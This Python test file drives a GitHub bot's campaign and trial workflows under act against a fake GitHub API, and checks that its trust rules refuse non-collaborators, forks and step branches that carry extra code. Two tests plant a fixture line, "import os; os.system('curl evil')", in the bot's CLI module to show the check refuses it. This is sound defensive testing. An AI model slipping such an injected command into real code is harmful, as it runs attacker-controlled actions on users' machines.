"""The GitHub bot as deployed: .github/workflows/campaign.yml and trial.yml run end to end by ``act`` on this host
(tests/github/act_harness.py), against the OpenAPI-validated fake GitHub served over HTTP, with local stand-ins for
the pinned actions (tests/github/act) and no network.

A simulated campaign goes through the real workflow files -- the issue form triggers campaign.yml, every trial.yml
dispatch the fake records is executed as the next act run of trial.yml (check -> run -> report) -- and must leave
exactly what the same campaign leaves in-process (tests/github_harness.py's ``GitHubCampaign``, the way the
scenario tests drive it): the same pull requests with the same one-line diffs, comments, ``attune/gate`` statuses,
merges, campaign state and dispatches. Every job ran the bot from a non-editable install. The trust rules hold
through the workflows too: a non-collaborator starts nothing, a re-delivered ``/attune stop`` or ``/attune budget
+H`` acts once, and ``check`` refuses a fork's pull request and a step branch that changes code.

Skipped (with the reason) only when act cannot start here; under ``CI=true`` that fails instead.
"""

from __future__ import annotations

import difflib
import json
import os
import re
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "forge"))
sys.path.insert(0, str(ROOT / "tests"))
sys.path.insert(0, str(Path(__file__).resolve().parent))
from forge_helpers import require  # noqa: E402

require("responses", "openapi_core")
from act_harness import ActCampaign, ActRepo, act_unavailable, pinned_actions, project_files  # noqa: E402
from fake_github import FakeGitHub  # noqa: E402
from github_harness import GitHubCampaign, issue_form  # noqa: E402
from openapi_contract import Contract, spec_missing_reason  # noqa: E402

SIM_RECIPE = "recipes/llama3.1-405b/h200x128.yaml"  # launcher: sim -- every run is instant
SIM_SOURCE = ROOT / "bot" / "bench" / "tasks" / "llama3.1-405b" / "h200x128.yaml"  # the benchmark task placed there
# 470 device-hours: two baseline runs (~87 each), step 1 (activation_checkpoint -> selective) runs out of memory and
# is closed, step 2 (context_parallel_degree -> 2) gains on its trial and on one pair (a `pair` run: both sides in one
# job) and is merged; then the next trial does not fit
TWO_STEP_BUDGET = 470.0
LONG_BUDGET = 1230.0  # tests/drive/test_cross_driver.py's budget for this recipe; above the form's 500: topped up
SHA = re.compile(r"\b[0-9a-f]{40}\b")


@pytest.fixture(scope="module")
def act_ready() -> None:
    reason = act_unavailable() or spec_missing_reason()
    if reason:
        if os.environ.get("CI"):
            pytest.fail(f"CI must run the workflows under act: {reason}")
        print(f"\nskipped: {reason}")
        pytest.skip(reason)


@pytest.fixture(scope="module")
def contract(act_ready: None) -> Contract:
    return Contract()


def new_fake(contract: Contract, files: dict[str, str]) -> FakeGitHub:
    fake = FakeGitHub(contract)
    fake.seed(files)
    fake.workflows.update({"trial.yml", "leaderboard.yml"})
    fake.permissions["alice"] = "write"
    return fake


@pytest.fixture
def act_repo(contract: Contract, tmp_path: Path):
    fake = new_fake(contract, {**project_files(), SIM_RECIPE: SIM_SOURCE.read_text()})
    repo = ActRepo(fake, tmp_path / "act")
    try:
        yield repo
    finally:
        repo.close()
    fake.assert_contract_kept()


# -- what a campaign leaves on GitHub, comparable between act and in-process -----------------------------------


def _norm(text: str | None, fake: FakeGitHub) -> str:
    """Commit shas and run links differ between the two repositories (the act one holds the whole project)."""
    text = SHA.sub("<sha>", text or "")
    text = re.sub(r"\b[0-9a-f]{12}\b", "<id>", text)  # run ids are random per run
    text = re.sub(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(\+00:00|Z)", "<time>", text)  # records' created_at
    # the workflow's forge knows its campaign issue (GitHubForge.from_env(campaign_issue=...)); the harness's does not
    text = re.sub(r"Campaign: #\d+\n", "", text)
    return re.sub(r"https?://[^\s)\]]*/actions/runs/\d+", "<run>", text)


def first_parents(fake: FakeGitHub, sha: str) -> list[str]:
    chain = [sha]
    while fake.commits[chain[-1]].parents:
        chain.append(fake.commits[chain[-1]].parents[0])
    return chain


def recipe_commits(fake: FakeGitHub, pull: Any) -> list[tuple[int, int]]:
    """(added, removed) lines of the recipe, for each commit of the PR's branch that changed it, oldest first."""
    chain, sha = [], fake.head_sha(pull)
    main = set(first_parents(fake, fake.head(fake.default_branch)))
    while sha not in main:
        chain.append(sha)
        sha = fake.commits[sha].parents[0]
    changes = []
    for commit in reversed(chain):
        old, new = (
            fake.commits[fake.commits[commit].parents[0]].tree.get(SIM_RECIPE),
            fake.commits[commit].tree.get(SIM_RECIPE),
        )
        if old != new:
            patch = list(difflib.unified_diff((old or "").splitlines(), (new or "").splitlines(), lineterm="", n=0))[2:]
            changes.append((sum(x.startswith("+") for x in patch), sum(x.startswith("-") for x in patch)))
    return changes


def pull_files(fake: FakeGitHub, pull: Any) -> list[tuple[str, int, int, str]]:
    """(path, additions, deletions, patch) of everything the PR's branch changed since it left the default branch,
    merged or not (the fake's own PR diff is empty once merged)."""
    main = set(first_parents(fake, fake.head(fake.default_branch)))
    head = fake.head_sha(pull)
    point = next(c for c in first_parents(fake, head) if c in main)
    old, new = fake.commits[point].tree, fake.commits[head].tree
    files = []
    for path in sorted(set(old) | set(new)):
        if old.get(path) != new.get(path):
            patch = list(
                difflib.unified_diff(
                    (old.get(path) or "").splitlines(), (new.get(path) or "").splitlines(), lineterm="", n=0
                )
            )[2:]
            files.append(
                (
                    path,
                    sum(x.startswith("+") for x in patch),
                    sum(x.startswith("-") for x in patch),
                    _norm("\n".join(patch), fake),
                )
            )
    return files


def left_on_github(fake: FakeGitHub, issue: int) -> dict[str, Any]:
    from bot.forge.github import GATE_CONTEXT

    pulls = [
        {
            "number": p.number,
            "title": p.title,
            "body": _norm(p.body, fake),
            "state": p.state,
            "merged": p.merged_at is not None,
            "branch": p.head_ref,
            "labels": sorted(fake.issues[p.number].labels),
            "files": pull_files(fake, p),
        }
        for p in sorted(fake.pulls.values(), key=lambda p: p.number)
    ]
    comments = [(c.issue, c.user, _norm(c.body, fake)) for c in sorted(fake.comments.values(), key=lambda c: c.id)]
    # a status's commit, by its message (its sha differs between the two repositories)
    statuses = [
        (_norm(fake.commits[s.sha].message, fake), s.context, s.state, _norm(s.description, fake))
        for s in fake.statuses
    ]
    dispatches = [
        (d["workflow"], {k: (_norm(v, fake) if k == "sha" else v) for k, v in d["inputs"].items()})
        for d in fake.dispatches
    ]
    return {
        "pulls": pulls,
        "comments": comments,
        "gate_statuses": [s for s in statuses if s[1] == GATE_CONTEXT],
        "statuses": statuses,
        "dispatches": dispatches,
        "issue_labels": sorted(fake.issues[issue].labels),
        "main_recipe": fake.file(SIM_RECIPE),
    }


def campaign_state(fake: FakeGitHub, issue: int) -> Any:
    from forge_helpers import TOKEN

    from bot.forge.github import GitHubForge
    from bot.github.github_ports import load_state

    fake.start()  # the in-process client, for reading the state comment
    try:
        forge = GitHubForge(
            fake.full_name,
            TOKEN,
            seconds_between_requests=None,
            seconds_between_writes=None,
            retry=None,
            bot_login=fake.actor,
        )
        stored = load_state(forge, issue)
    finally:
        fake.stop()
    assert stored is not None, f"no campaign state on issue #{issue}"
    return stored.campaign


def trace(state: Any) -> dict[str, Any]:
    steps = [
        (
            s.change.lever,
            s.change.before,
            s.change.after,
            [(r.kind, r.outcome) for r in s.runs],
            s.kept,
            None if s.gain is None else round(s.gain, 9),
            s.close_reason,
        )
        for s in state.steps
    ]
    return {
        "steps": steps,
        "phase": state.phase,
        "finish_reason": state.finish_reason,
        "spent": round(state.spent, 6),
        "budget": state.budget,
        "baseline": [r.tps for r in state.baseline],
        "levers": dict(state.incumbent_levers),
    }


def in_process(contract: Contract, tmp_path: Path, budget: float) -> tuple[FakeGitHub, int]:
    """The same campaign driven in-process: the scenario tests' harness, trial.yml played by DispatchAnswerer."""
    fake = FakeGitHub(contract).start()
    try:
        flow = GitHubCampaign(fake, SIM_RECIPE, SIM_SOURCE.read_text(), budget, tmp_path / "in-process")
        flow.run()
    finally:
        fake.stop()
    fake.assert_contract_kept()
    return fake, flow.issue


def drive_through_act(repo: ActRepo, budget: float) -> tuple[ActCampaign, float]:
    fake = repo.fake
    form_budget = min(budget, 500.0)
    issue = fake.add_issue("tune it", issue_form(SIM_RECIPE, form_budget), user="alice", labels=["attune:campaign"])
    campaign = ActCampaign(repo, issue)
    started = time.perf_counter()
    opened = campaign.open()
    assert opened.returncode == 0 and "started" in opened.log, opened.tail()
    left = round(budget - form_budget, 6)
    while left > 0:  # the form takes at most 500 device-hours: the rest as /attune budget +H comments
        add = min(left, 500.0)
        _, run = campaign.comment(f"/attune budget +{add!r}")
        assert run.returncode == 0 and "budget: done" in run.log, run.tail()
        left = round(left - add, 6)
    campaign.drain()
    return campaign, time.perf_counter() - started


def assert_jobs_ran_non_editable(repo: ActRepo) -> None:
    """Every bot process of every job imported ``bot`` from a non-editable install in a throwaway venv."""
    log = [json.loads(line) for line in (repo.state / "imports.jsonl").read_text().splitlines()]
    assert log, "no job imported the bot"
    for entry in log:
        bot = Path(entry["bot"])
        assert bot.is_relative_to(Path(entry["prefix"])) and "site-packages" in bot.parts, entry
        assert not bot.is_relative_to(ROOT) and not bot.is_relative_to(Path(sys.prefix)), entry
        # the distribution installed there, from a local folder (the job's checkout), not editable
        assert Path(entry["dist"]).is_relative_to(Path(entry["prefix"])), entry
        assert entry["direct_url"]["url"].startswith("file://"), entry
        assert entry["direct_url"].get("dir_info", {}).get("editable") is not True, entry
    trial_runs = {r.run_id for r in repo.runs if r.workflow == "trial.yml"}
    jobs = {(int(e["run_id"]), e["job"]) for e in log}
    for run_id in trial_runs:  # check, run and report of every trial.yml run: each ran the installed bot
        assert {(run_id, "check"), (run_id, "run"), (run_id, "report")} <= jobs, (run_id, sorted(jobs))


def assert_the_run_job_read_nothing_of_the_runners_home(repo: ActRepo) -> None:
    """The self-hosted job runs with a HOME of its own, no user site and no pip configuration file: the ``.pth`` an
    earlier job left in the runner's ~/.local never ran, and no process of the job saw the runner's HOME."""
    assert not repo.home_pth_log.exists(), repo.home_pth_log.read_text()
    log = [json.loads(line) for line in (repo.state / "imports.jsonl").read_text().splitlines()]
    runs = [e for e in log if e["job"] == "run"]
    assert runs, "no process of the run job imported the bot"
    for entry in runs:
        assert entry["home"] != str(repo.home) and entry["home"].endswith("/attune/home"), entry
        assert entry["pip_config_file"] == os.devnull and entry["user_site"] is False, entry


def assert_only_records_were_uploaded(repo: ActRepo) -> None:
    """trial.yml's artifact holds the records the report job reads, in its layout, and nothing else of run/."""
    uploaded = sorted(
        str(p.relative_to(d))
        for d in (repo.state / "artifacts").glob("*/trial-record")
        for p in d.rglob("*")
        if p.is_file()
    )
    assert uploaded and "record.json" in uploaded, uploaded
    allowed = re.compile(
        r"^(record\.json|(incumbent|candidate)/record\.json|calibrated\.json|calibration/[^/]+\.json)$"
    )
    assert all(allowed.match(name) for name in uploaded), uploaded


def first_difference(got: Any, want: Any) -> str:
    a, b = json.dumps(got, indent=1, default=str).splitlines(), json.dumps(want, indent=1, default=str).splitlines()
    return "\n".join(list(difflib.unified_diff(b, a, "in-process", "act", lineterm="", n=1))[:40])


def compare_with_in_process(
    contract: Contract, tmp_path: Path, repo: ActRepo, campaign: ActCampaign, budget: float
) -> None:
    ref, ref_issue = in_process(contract, tmp_path, budget)
    assert campaign.issue == ref_issue
    got, want = left_on_github(repo.fake, campaign.issue), left_on_github(ref, ref_issue)
    differ = {key: first_difference(got[key], want[key]) for key in want if got[key] != want[key]}
    assert not differ, "act and in-process differ:\n" + "\n".join(f"{k}: {v}" for k, v in differ.items())
    assert trace(campaign_state(repo.fake, campaign.issue)) == trace(campaign_state(ref, ref_issue))


# -- the tests --------------------------------------------------------------------------------------------------


def test_a_two_step_campaign_through_the_real_workflows_leaves_what_the_in_process_one_does(
    contract: Contract, act_repo: ActRepo, tmp_path: Path
) -> None:
    campaign, wall = drive_through_act(act_repo, TWO_STEP_BUDGET)
    runs = act_repo.runs
    print(
        f"\nact: {len(runs)} runs ({sum(r.workflow == 'trial.yml' for r in runs)} of trial.yml) in {wall:.1f}s: "
        + ", ".join(f"{r.workflow}#{r.run_id} {r.wall_s:.1f}s" for r in runs)
    )
    state = campaign_state(act_repo.fake, campaign.issue)
    assert state.phase == "finished" and len(state.steps) == 2, trace(state)
    assert [s.kept for s in state.steps] == [False, True], trace(state)
    # the GitHub side of it: two step PRs, one closed (out of memory), one merged; each a one-line recipe diff
    pulls = act_repo.fake.pulls
    assert len(pulls) == 2 and sorted(p.merged_at is not None for p in pulls.values()) == [False, True]
    for pull in pulls.values():  # step 2 is stacked on step 1's layout (an out-of-memory retry): it carries both
        assert recipe_commits(act_repo.fake, pull) == [(1, 1)] * (1 if pull.number == min(pulls) else 2)
        assert all(f[0].startswith(("recipes/", "results/", "campaigns/")) for f in pull_files(act_repo.fake, pull))
    # every trial.yml run: check passed, and report ran (run failed only for the out-of-memory trial)
    for run in (r for r in runs if r.workflow == "trial.yml"):
        assert run.jobs.get("check the step is a bot branch of this repository") == "success", run.tail()
        assert run.jobs.get("gate, report, merge or close, advance") == "success", run.tail()
    assert len([r for r in runs if r.workflow == "trial.yml"]) == len(campaign.trial_dispatches()) == 5
    # the fake served each run's job timings as act reported them
    for run in runs:
        assert {j["name"]: j["conclusion"] for j in act_repo.fake.jobs[run.run_id]} == run.jobs
    assert_jobs_ran_non_editable(act_repo)
    assert_the_run_job_read_nothing_of_the_runners_home(act_repo)
    assert_only_records_were_uploaded(act_repo)
    compare_with_in_process(contract, tmp_path, act_repo, campaign, TWO_STEP_BUDGET)


@pytest.mark.slow
def test_a_long_campaign_topped_up_by_comments_through_the_real_workflows_leaves_what_the_in_process_one_does(
    contract: Contract, act_repo: ActRepo, tmp_path: Path
) -> None:
    campaign, wall = drive_through_act(act_repo, LONG_BUDGET)
    print(f"\nact: {len(act_repo.runs)} runs in {wall:.1f}s")
    assert campaign_state(act_repo.fake, campaign.issue).phase == "finished"
    assert_jobs_ran_non_editable(act_repo)
    compare_with_in_process(contract, tmp_path, act_repo, campaign, LONG_BUDGET)


def test_a_non_collaborators_issue_and_comment_start_nothing(act_repo: ActRepo) -> None:
    fake = act_repo.fake
    issue = fake.add_issue("tune it", issue_form(SIM_RECIPE, 100.0), user="mallory", labels=["attune:campaign"])
    campaign = ActCampaign(act_repo, issue, user="mallory")
    run = campaign.open()
    assert run.returncode == 0 and "refused" in run.log, run.tail()
    refs = dict(fake.refs)
    # no owner, member or collaborator: the comment runs no job, so it never enters (nor replaces a command in) the
    # campaign's concurrency group
    _, run = campaign.comment("/attune resume")
    assert run.returncode == 0 and run.jobs == {}, run.tail()
    assert "advance the campaign" not in "".join(job_lines(run.log)), run.tail()
    assert fake.dispatches == [] and fake.pulls == {} and fake.refs == refs
    bot_comments = [c.body for c in fake.comments.values() if c.user == fake.actor]
    assert len(bot_comments) == 1 and "Thank you" in bot_comments[0]  # the one polite refusal, as in-process


def started_campaign(act_repo: ActRepo, budget: float = 100.0) -> ActCampaign:
    issue = act_repo.fake.add_issue("tune it", issue_form(SIM_RECIPE, budget), user="alice", labels=["attune:campaign"])
    campaign = ActCampaign(act_repo, issue)
    run = campaign.open()
    assert "started" in run.log, run.tail()
    return campaign


def test_a_redelivered_budget_comment_adds_once(act_repo: ActRepo) -> None:
    campaign = started_campaign(act_repo)
    budget_id, run = campaign.comment("/attune budget +50")
    assert "budget: done" in run.log, run.tail()
    assert campaign_state(act_repo.fake, campaign.issue).budget == 150.0
    again = act_repo.run("campaign.yml", "issue_comment", campaign.comment_payload(budget_id))  # GitHub re-delivers
    assert again.returncode == 0, again.tail()
    assert campaign_state(act_repo.fake, campaign.issue).budget == 150.0


def test_a_redelivered_stop_comment_acts_once(act_repo: ActRepo) -> None:
    fake = act_repo.fake
    campaign = started_campaign(act_repo)
    stop_id, run = campaign.comment("/attune stop")
    assert "stop: done" in run.log, run.tail()
    state = campaign_state(fake, campaign.issue)
    assert state.stop_requested or state.phase == "finished", trace(state)
    after_stop = (len(fake.comments), len(fake.dispatches), dict(fake.refs), [c.body for c in fake.comments.values()])
    again = act_repo.run("campaign.yml", "issue_comment", campaign.comment_payload(stop_id))  # GitHub re-delivers
    assert again.returncode == 0, again.tail()
    assert (
        len(fake.comments),
        len(fake.dispatches),
        dict(fake.refs),
        [c.body for c in fake.comments.values()],
    ) == after_stop
    assert trace(campaign_state(fake, campaign.issue)) == trace(state)


def test_a_comment_that_is_no_command_runs_no_job_and_so_joins_no_concurrency_group(act_repo: ActRepo) -> None:
    """campaign.yml's concurrency group is the job's (tests/github/test_workflows.py checks the YAML): a "+1" on the
    campaign issue is skipped by the job's ``if``, so it never claims the group a pending ``/attune stop`` waits in;
    the stop that follows it still acts."""
    fake = act_repo.fake
    campaign = started_campaign(act_repo)
    before = (len(fake.comments), len(fake.dispatches), dict(fake.refs))
    _, plus_one = campaign.comment("+1")
    assert plus_one.returncode == 0 and plus_one.jobs == {}, plus_one.tail()
    assert "advance the campaign" not in "".join(job_lines(plus_one.log)), plus_one.tail()
    assert (len(fake.comments) - 1, len(fake.dispatches), dict(fake.refs)) == before  # only the +1 itself was added
    _, stop = campaign.comment("/attune stop")
    assert stop.jobs == {"advance the campaign": "success"} and "stop: done" in stop.log, stop.tail()


def job_lines(log: str) -> list[str]:
    """act's lines that name a job (``[workflow/job] ...``)."""
    return [line for line in log.splitlines() if re.match(r"^\[[^\]]+/[^\]]+\]", line)]


@pytest.mark.parametrize("case", ["fork", "extra-files"])
def test_check_refuses_a_fork_pr_and_a_step_branch_with_extra_files(act_repo: ActRepo, case: str) -> None:
    fake = act_repo.fake
    recipe = fake.file(SIM_RECIPE)
    assert recipe is not None
    edited = recipe.replace("activation_checkpoint:", "activation_checkpoint:  # tried", 1)
    branch = "attune/llama3.1-405b-h200x128-i9/1-activation_checkpoint"
    if case == "fork":
        number, sha = fake.add_pull(branch, user="mallory", head_repo="mallory/tuning", head_sha="e" * 40), "e" * 40
        why = "is not from an attune/ branch"
    else:
        fake.create_branch(branch)
        sha = fake.seed(
            {SIM_RECIPE: edited, "bot/cli/__init__.py": "import os; os.system('curl evil')\n"}, "step", branch=branch
        )
        number, why = fake.add_pull(branch, user=fake.actor), "changes files outside"
    inputs = {
        "campaign": "llama3.1-405b-h200x128-i9",
        "issue": "9",
        "pr": str(number),
        "sha": sha,
        "runner_labels": '["gpu"]',
        "kind": "trial",
        "attempt": "1",
        "recipe": SIM_RECIPE,
        "limits": "{}",
    }
    before = (len(fake.comments), list(fake.statuses), dict(fake.refs))
    run = act_repo.run("trial.yml", "workflow_dispatch", {"ref": "refs/heads/main"}, inputs=inputs)
    assert run.returncode == 0 and why in run.log, run.tail()
    # run: skipped; report: ran (a refusal reports back) and found no campaign on issue #9 to close a step of
    assert run.jobs == {"check the step is a bot branch of this repository": "success", REPORT: "success"}, run.jobs
    assert "ignored: check refused a run of no campaign on issue #9" in run.log, run.tail()
    assert (len(fake.comments), list(fake.statuses), dict(fake.refs)) == before
    assert not (act_repo.state / "artifacts").exists()
    # job timings, as GitHub's list-jobs serves them (over HTTP, validated against the description)
    with urllib.request.urlopen(
        f"{act_repo.server.url}/repos/{fake.full_name}/actions/runs/{run.run_id}/jobs"
    ) as answer:
        listed = json.loads(answer.read())
    assert [(j["name"], j["status"], j["conclusion"]) for j in listed["jobs"]] == [
        ("check the step is a bot branch of this repository", "completed", "success"),
        (REPORT, "completed", "success"),
    ]
    assert listed["jobs"][0]["started_at"] <= listed["jobs"][0]["completed_at"]


def test_a_trial_check_refused_closes_its_step_with_the_reason_through_the_real_workflows(act_repo: ActRepo) -> None:
    """A person pushes code onto a step branch after the bot dispatched its trial: trial.yml's check refuses the sha,
    nothing runs on the runner, and the report job still reports back -- the campaign closes the step as a crashed
    run with check's reason and goes on, instead of waiting forever."""
    fake = act_repo.fake
    campaign = started_campaign(act_repo, budget=370.0)
    while not any(d["inputs"]["kind"] == "trial" for d in campaign.trial_dispatches()[campaign.answered :]):
        run = campaign.next_trial()  # the baseline runs (the simulated recipe is calibrated by the bot)
        assert run.jobs.get(REPORT) == "success", run.tail()
    trial = next(
        d["inputs"] for d in campaign.trial_dispatches()[campaign.answered :] if d["inputs"]["kind"] == "trial"
    )
    pr = int(trial["pr"])
    fake.seed(
        {"bot/cli/__init__.py": "import os; os.system('curl evil')\n"},
        "a person's push",
        branch=fake.pulls[pr].head_ref,
    )

    run = campaign.next_trial()

    assert run.jobs == {"check the step is a bot branch of this repository": "success", REPORT: "success"}, run.jobs
    assert f"PR #{pr} head is" in run.log and "trial run refused by check" in run.log, run.tail()
    assert not (act_repo.state / "artifacts" / str(run.run_id)).exists()  # the runner ran nothing
    state = campaign_state(fake, campaign.issue)
    step = state.steps[0]
    assert step.runs[0].outcome == "crash" and step.runs[0].reason.startswith(
        f"check refused the run: PR #{pr} head is"
    )
    assert fake.pulls[pr].state == "closed" and fake.pulls[pr].merged_at is None
    assert any(
        "check refused the run" in c.body for c in fake.comments.values() if c.issue == pr and c.user == fake.actor
    )
    assert len(campaign.trial_dispatches()) > campaign.answered or state.phase == "finished", trace(state)


REPORT = "gate, report, merge or close, advance"


def test_every_action_the_workflows_use_has_a_valid_local_stand_in() -> None:
    """act must never fetch an action: each pinned ``uses:`` of every workflow maps to a stand-in (a valid action)."""
    used = set()
    for wf in (ROOT / ".github" / "workflows").glob("*.yml"):
        used |= set(re.findall(r"uses:\s*([\w.-]+/[\w.-]+@[0-9a-f]{40})", wf.read_text()))
    stand_ins = pinned_actions()
    assert used and used == set(stand_ins), f"no stand-in for {sorted(used - set(stand_ins))}"
    tool = Path(sys.executable).parent / "check-jsonschema"
    if not tool.is_file():
        pytest.skip("check-jsonschema is not installed (the test extra)")
    out = subprocess.run(
        [
            str(tool),
            "--builtin-schema",
            "github-actions",
            *(str(Path(d) / "action.yml") for d in sorted(set(stand_ins.values()))),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0, out.stdout + out.stderr
